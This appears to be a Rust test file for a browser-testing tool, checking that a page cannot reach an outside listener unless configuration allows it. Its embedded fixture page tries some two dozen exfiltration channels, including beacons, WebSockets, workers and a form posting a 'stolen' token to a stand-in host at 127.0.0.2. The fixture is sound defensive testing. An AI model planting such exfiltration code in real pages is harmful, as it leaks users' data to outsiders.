//! A hostile page that tries every way out that a page has, to somebody who listens on 127.0.0.2. The
//! twin is the same page where `allow-hosts` names him.
//!
//! Not here: calls by `WebRTC`, which `peers.rs` has, and names that are looked up, which `names.rs` has.

use std::collections::BTreeSet;

use crate::support::{ANSWERING, SuiteCopy};

use super::yard::Outside;

/// The ways out; each asks for an address that ends with its name.
const WAYS: [&str; 24] = [
    "image",
    "fetch",
    "xhr",
    "beacon",
    "socket",
    "events",
    "script",
    "style",
    "background",
    "font",
    "frame",
    "object",
    "form",
    "redirect",
    "refresh",
    "worker",
    "shared-worker",
    "video",
    "track",
    "popup",
    "module",
    "vector",
    "preload",
    "location",
];

const PAGES: &str = r#"
from answering import Answering, serve
AWAY = 'http://127.0.0.2:PORT/way-'
PAGE = """<!doctype html><html lang="en"><title>Shop</title><h1>Shop</h1>
<img src="AWAYimage" alt="">
<script src="AWAYscript"></script>
<link rel="stylesheet" href="AWAYstyle">
<link rel="preload" as="image" href="AWAYpreload">
<style>@font-face { font-family: f; src: url(AWAYfont) } h1 { font-family: f; background: url(AWAYbackground) }</style>
<iframe src="AWAYframe"></iframe>
<iframe src="/redirect"></iframe><iframe src="/refresh"></iframe><iframe src="/leaves"></iframe>
<object data="AWAYobject"></object>
<video src="AWAYvideo"></video>
<video src="/none" crossorigin><track default src="AWAYtrack"></video>
<svg><image href="AWAYvector"></image></svg>
<iframe name="sink"></iframe>
<form id="form" method="post" action="AWAYform" target="sink"><input name="token" value="stolen"></form>
<button onclick="window.open('AWAYpopup')">More</button>
<p role="status"></p>
<script>
const away = 'AWAY';
const quiet = (what) => { try { what(); } catch (e) {} };
quiet(() => fetch(away + 'fetch').catch(() => {}));
quiet(() => { const x = new XMLHttpRequest(); x.open('GET', away + 'xhr'); x.send(); });
quiet(() => navigator.sendBeacon(away + 'beacon', 'stolen'));
quiet(() => new WebSocket(away.replace('http', 'ws') + 'socket'));
quiet(() => new EventSource(away + 'events'));
quiet(() => document.getElementById('form').submit());
quiet(() => import(away + 'module').catch(() => {}));
const code = (name) => URL.createObjectURL(new Blob(
  [`fetch('${away}${name}').catch(() => {})`], { type: 'text/javascript' }));
quiet(() => new Worker(code('worker')));
quiet(() => new SharedWorker(code('shared-worker')));
document.querySelector('video track').track.mode = 'showing';
setTimeout(() => { document.querySelector('[role=status]').textContent = 'Tried'; }, 1500);
</script></html>""".replace('AWAY', AWAY)
class Pages(Answering):
    def do_GET(self):
        if self.path == '/redirect':
            self.send_response(302)
            self.send_header('Location', AWAY + 'redirect')
            self.send_header('Content-Length', '0')
            self.end_headers()
        elif self.path == '/refresh':
            self.answer(200, 'text/html', '<meta http-equiv="refresh" content="0;url=%srefresh">' % AWAY)
        elif self.path == '/leaves':
            self.answer(200, 'text/html', '<script>location = "%slocation"</script>' % AWAY)
        elif self.path == '/':
            self.answer(200, 'text/html; charset=utf-8', PAGE)
        else:
            self.answer(404, 'text/plain', '')
serve(Pages)
"#;

const SCENARIO: &str = "\
scenario: visit
steps:
  - open: /
  - click: 'button \"More\"'
  - see: 'text \"Tried\"'
";

pub fn names() -> Vec<String> {
    WAYS.iter().map(|it| format!("leave a page by {it}")).collect()
}

/// How many nights a way may need where nothing is in its way: a browser loads what is less
/// important, like subtitles, when it has time.
const NIGHTS: usize = 3;

/// The ways that led to somebody, of a night with this line in the product's configuration.
fn heard(line: &str) -> Vec<String> {
    let outside = Outside::default();
    let port = outside.tcp("127.0.0.2:0").port();
    let suite = SuiteCopy::empty();
    suite.write("data/answering.py", ANSWERING);
    suite.write("data/pages.py", &PAGES.replace("PORT", &port.to_string()));
    suite.write("scenarios/visit.yaml", SCENARIO);
    let config = format!(
        "products:\n  shop:\n    data: data\n    serve: {{ run: 'python3 pages.py ${{port}}', ready: {{ http: / }} }}\n{line}night: {{ retries: 0 }}\n"
    );
    suite.write("nightshift.yaml", &config);
    suite.run(&["run", "--no-pdf", "--out", "night"]);
    let heard = outside.heard();
    let by = |way: &&str| heard.iter().any(|it| it.contains(&format!("/way-{way} ")));
    let ways = WAYS.into_iter().filter(by).map(str::to_owned).collect::<Vec<_>>();
    if ways.is_empty() { heard } else { ways }
}

#[test]
fn no_way_out_of_a_page_leads_to_somebody() {
    assert_eq!(heard(""), [""; 0]);
}

#[test]
fn every_way_out_of_a_page_leads_to_whom_the_suite_allows() {
    let mut open: BTreeSet<String> = BTreeSet::new();
    for _ in 0..NIGHTS {
        open.extend(heard("    allow-hosts: ['127.0.0.2']\n"));
        if open.len() >= WAYS.len() {
            break;
        }
    }
    assert_eq!(open, WAYS.map(str::to_owned).into());
}
